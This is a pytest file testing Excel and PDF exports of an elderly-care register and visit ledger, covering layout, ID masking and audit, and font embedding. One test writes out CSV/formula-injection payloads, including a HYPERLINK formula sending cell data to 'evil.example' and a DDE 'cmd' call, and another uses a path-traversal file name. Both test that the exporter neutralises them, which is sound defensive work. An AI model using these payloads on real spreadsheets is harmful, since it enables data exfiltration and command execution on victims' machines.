"""Exports read back with openpyxl: the 附件1 ledger (header, column order, values), masking and its audit,
the register and visit lists, and the half-year bundle with PDFs."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from sqlalchemy.orm import Session

from hub.care.errors import CareError
from hub.care.exports import (
    LedgerHeader,
    export_bundle,
    export_ledger,
    export_register,
    export_visits,
    half_bounds,
)
from hub.care.forms import REGISTER_TITLE
from hub.care.register import IdAccess, grant_id_access
from hub.care.tables import CareAudit
from hub.care.visits import record_visit, visit_input
from tests.care.conftest import add_elder, make_id, utc

TZ = ZoneInfo("Asia/Shanghai")
ID_A = make_id("50011219450305123")
ID_B = make_id("50011219380817456")
HEADER = LedgerHeader(unit="双凤桥街道办事处", leader="陈书记", filler="刘干事", filled_on=date(2026, 12, 28))


def populate(session: Session) -> None:
    a = add_elder(session, "E1", tier="key", categories=("重残", "独居", "计生特殊家庭"), id_number=ID_A)
    b = add_elder(
        session,
        "E2",
        street="龙溪街道",
        community="松牌路社区",
        categories=("失能", "其他", "空巢", "农村留守"),
        id_number=ID_B,
    )
    for at, solved in ((utc(2026, 7, 3, 2), 1), (utc(2026, 11, 20, 2), 2)):
        record_visit(
            session,
            a,
            visit_input(
                {"visited_at": at, "method": "上门探访", "visitor_name": "王探访", "problems_solved": solved}
            ),
            now=at,
        )
    # Phone calls are not home visits, but the problems they solve still count; June is another half year.
    record_visit(
        session,
        a,
        visit_input(
            {
                "visited_at": utc(2026, 8, 1, 2),
                "method": "电话问候",
                "visitor_name": "王探访",
                "problems_solved": 1,
            }
        ),
        now=utc(2026, 8, 1, 2),
    )
    record_visit(
        session,
        b,
        visit_input(
            {
                "visited_at": utc(2026, 6, 30, 2),
                "method": "上门探访",
                "visitor_name": "王探访",
                "gas_safety": "不安全",
                "illness": "严重",
                "illness_name": "脑梗",
            }
        ),
        now=utc(2026, 6, 30, 2),
    )
    session.commit()


def test_ledger_has_the_notice_layout_and_values(session: Session, tmp_path: Path) -> None:
    populate(session)
    out = tmp_path / "台帐.xlsx"
    assert export_ledger(session, out, half="2026H2", tz=TZ, header=HEADER) == 2
    ws = load_workbook(out).active
    assert ws is not None
    assert ws["A1"].value == "渝北区特殊困难老年人关爱服务信息台帐"
    header_line = " ".join(str(c.value) for c in ws[2] if c.value)
    assert "填表单位：双凤桥街道办事处" in header_line and "主要领导审核：陈书记" in header_line
    assert "填报人：刘干事" in header_line and "填表日期：2026-12-28" in header_line
    top = [c.value for c in ws[3]]
    sub = [c.value for c in ws[4]]
    assert top == ["序号", "姓名", "性别", "常住地址", "身份证号码", "电话", "亲属情况", None, None, "对象类型", "责任主体", None, None, None, "上门探访次数", "解决问题数量"]  # fmt: skip
    assert sub == [None] * 6 + ["姓名", "亲属关系", "电话", None, "责任镇街", "责任村（社区）", "责任人", "责任人电话", None, None]  # fmt: skip
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"A3:A4", "G3:I3", "K3:N3", "O3:O4", "P3:P4"} <= merged
    rows = {r[1]: r for r in ws.iter_rows(min_row=5, max_row=6, values_only=True)}
    a = rows["老人E1"]
    assert a[0] == 1 and a[2] == "女" and a[3] == "渝北区双凤桥街道空港社区1号"
    assert a[4] == "500***********" + ID_A[-4:] and a[5] == "13800000000"
    assert a[6:9] == ("张儿子", "儿子", "13600000000")
    assert a[9] == "独居、计生对象、重度残疾老年人"  # the notice's words, in the notice's order
    assert a[10:14] == ("双凤桥街道", "空港社区", "李主任", "13700000000")
    assert a[14:16] == (2, 4)  # two home visits in H2; problems solved by every visit of H2
    b = rows["老人E2"]
    assert b[9] == "空巢、农村留守、失能、其他关爱对象" and b[14:16] == (0, 0)
    assert str(ws.cell(7, 1).value).startswith(
        "说明：对象类型分为独居、空巢、农村留守、计生对象、失能、重度残疾老年人、其他关爱对象"
    )


def test_full_id_numbers_only_for_allowed_people_and_audited(session: Session, tmp_path: Path) -> None:
    populate(session)
    now = utc(2026, 12, 28)
    with pytest.raises(CareError, match="无权查看完整身份证号"):
        grant_id_access(session, IdAccess(True, "路人"), ["陈书记"], what="ledger", now=now)
    access = grant_id_access(session, IdAccess(True, "陈书记"), ["陈书记"], what="ledger 2026H2", now=now)
    out = tmp_path / "台帐.xlsx"
    export_ledger(session, out, half="2026H2", tz=TZ, header=HEADER, access=access)
    session.commit()
    ids = {r[4] for r in load_workbook(out).active.iter_rows(min_row=5, max_row=6, values_only=True)}  # type: ignore[union-attr]
    assert ids == {ID_A, ID_B}
    audit = session.scalars(select(CareAudit)).all()
    assert [(x.actor, x.action, x.detail) for x in audit] == [("陈书记", "reveal_id", "ledger 2026H2")]


def test_register_and_visit_lists_and_bundle(session: Session, tmp_path: Path) -> None:
    populate(session)
    reg = tmp_path / "登记表.xlsx"
    assert export_register(session, reg) == 2
    ws = load_workbook(reg).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    for label in ("建档日期", "居民身份证号码", "紧急联系人", "户籍地址", "居住地址", "能力程度", "曾患病史", "经济情况", "月可支配收入（元）", "经济来源", "对象类别", "残疾证号", "重点对象/一般对象", "饮水是否安全", "生活用电是否安全", "住房是否安全", "家庭每月收入（元）", "养老保险", "社会救助和社会福利补贴", "帮扶单位（组织）", "帮扶责任人", "帮扶措施"):  # fmt: skip
        assert label in header, label
    first = dict(zip(header, next(ws.iter_rows(min_row=2, max_row=2, values_only=True)), strict=True))
    assert (
        first["对象类别"] == "独居老年人、重残老年人、计划生育特殊家庭老年人"
        and first["重点对象/一般对象"] == "重点对象"
    )

    start, end = half_bounds("2026H1", TZ)
    vis = tmp_path / "探访.xlsx"
    assert export_visits(session, vis, start=start, end=end, tz=TZ) == 1
    ws = load_workbook(vis).active
    assert ws is not None
    row = dict(
        zip([c.value for c in ws[1]], next(ws.iter_rows(min_row=2, max_row=2, values_only=True)), strict=True)
    )
    assert (row["探访方式"], row["燃气安全"], row["疾病状况"], row["疾病名称"]) == (
        "上门探访",
        "不安全",
        "严重",
        "脑梗",
    )
    assert row["探访日期"] == "2026-06-30 10:00" and row["居民身份证号码"].startswith("500***")

    files = export_bundle(session, tmp_path / "bundle", half="2026H2", tz=TZ, header=HEADER)
    names = sorted(p.name for p in files)
    assert "附件1_台帐_2026年下半年.xlsx" in names
    assert {"E1_老人E1.pdf", "E1_老人E1.xlsx", "E2_老人E2.pdf", "E2_老人E2.xlsx"} <= set(names)
    pdf = next(p for p in files if p.name == "E1_老人E1.pdf")
    text, embedded = pdf_text_and_fonts(pdf)
    # The Chinese reads back as text, in a font the PDF carries (no viewer shows boxes for want of it).
    assert REGISTER_TITLE in text and "老人E1" in text and "上门探访" in text, text[:300]
    assert embedded and all("WenQuanYiZenHei" in name for name in embedded), embedded
    forms = load_workbook(next(p for p in files if p.name == "E1_老人E1.xlsx"))
    assert forms.sheetnames == ["附件2登记表", "附件3探访记录"]
    visits = list(forms["附件3探访记录"].iter_rows(min_row=4, max_row=6, values_only=True))
    assert [(v[0], v[2]) for v in visits] == [(1, "上门探访"), (2, "上门探访"), (3, "电话问候")]


STANDARD_14 = {
    f"/{n}" for n in ("Helvetica", "Helvetica-Bold", "Times-Roman", "Courier", "Symbol", "ZapfDingbats")
}


def pdf_text_and_fonts(path: Path) -> tuple[str, set[str]]:
    """The text of every page, and the base names of the fonts it uses; each must be embedded (a FontFile)."""
    reader = PdfReader(path)
    embedded: set[str] = set()
    for page in reader.pages:
        fonts = page["/Resources"].get_object().get("/Font", {})
        for ref in fonts.values():
            font = ref.get_object()
            if font.get("/Subtype") == "/Type1" and str(font["/BaseFont"]) in STANDARD_14:
                continue  # every viewer has these (reportlab's default Helvetica); no Chinese is set in them
            for desc in font.get("/DescendantFonts", [font]):
                desc = desc.get_object()
                descriptor = desc.get("/FontDescriptor")
                files = descriptor.get_object().keys() if descriptor is not None else ()
                assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(files), (
                    f"{desc['/BaseFont']} is not embedded"
                )
                embedded.add(str(desc["/BaseFont"]))
    return "\n".join(page.extract_text() for page in reader.pages), embedded


@pytest.mark.parametrize("export", ["ledger", "register", "visits", "bundle"])
def test_imported_text_that_looks_like_a_formula_is_written_as_text(
    session: Session, tmp_path: Path, export: str
) -> None:
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        "address": "+1+cmd|' /C calc'!A0",
        "illness": "@SUM(1+1)",
        "income": "-2+3",
        "tab": "\t=1+1",
    }
    elder = add_elder(session, "E9", tier="key")
    elder.name = hostile["name"]
    elder.medical_history = hostile["illness"]
    elder.income_source = hostile["income"]
    elder.home.address = hostile["address"]
    elder.ability_notes = hostile["tab"]
    elder.monthly_income = -5.0  # a number stays a number, even written as text
    at = utc(2026, 7, 3, 2)
    record_visit(
        session,
        elder,
        visit_input({"visited_at": at, "method": "上门探访", "visitor_name": "=1+2", "illness_name": "-1x"}),
        now=at,
    )
    session.flush()
    out = tmp_path / "out"
    start, end = half_bounds("2026H2", TZ)
    if export == "ledger":
        export_ledger(session, out / "x.xlsx", half="2026H2", tz=TZ, header=HEADER)
    elif export == "register":
        export_register(session, out / "x.xlsx")
    elif export == "visits":
        export_visits(session, out / "x.xlsx", start=start, end=end, tz=TZ)
    else:
        export_bundle(session, out, half="2026H2", tz=TZ, header=HEADER)
    books = sorted(out.rglob("*.xlsx"))
    assert books
    seen: set[str] = set()
    for path in books:
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        inert = cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell.value == "-5"
                        assert inert, (path.name, cell.value)
                        seen.add(cell.value)
    # The text is kept, made inert by a leading apostrophe.
    assert "'" + hostile["name"] in seen
    if export in ("register", "bundle"):
        assert "'" + hostile["income"] in seen and "-5" in seen


def test_bundle_file_names_stay_inside_the_bundle(session: Session, tmp_path: Path) -> None:
    # The elder's name goes into the file name; an imported name must not pick the directory.
    elder = add_elder(session, "E8")
    elder.name = "../../../逃逸/老人"
    session.flush()
    out = tmp_path / "bundle"
    written = export_bundle(session, out, half="2026H2", tz=TZ, header=HEADER)
    forms = out / "附件2_附件3"
    assert sorted(p.name for p in written if p.parent != out) == [
        "E8_.._.._.._逃逸_老人.pdf",
        "E8_.._.._.._逃逸_老人.xlsx",
    ]
    assert all(p.resolve().parent in (out.resolve(), forms.resolve()) and p.exists() for p in written)
    escaped = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.startswith("register.db")]
    assert {p.resolve() for p in escaped} == {p.resolve() for p in written}


def test_the_ledger_address_names_the_jurisdiction_once() -> None:
    from hub.register.site import local_address

    assert (
        local_address("重庆市渝北区双龙湖街道紫薇路18号", "渝北区", "双龙湖街道", "紫薇社区") == "紫薇路18号"
    )
    assert (
        local_address("重庆市渝北区双龙湖街道紫薇社区3栋2单元401", "渝北区", "双龙湖街道", "紫薇社区")
        == "3栋2单元401"
    )
    assert local_address("空港社区1号", "渝北区", "双凤桥街道", "空港社区") == "1号"
    # A street name further in is part of the address itself, not a repetition.
    assert local_address("紫薇路18号附近龙溪街道口", "渝北区", "龙溪街道", "") == "紫薇路18号附近龙溪街道口"
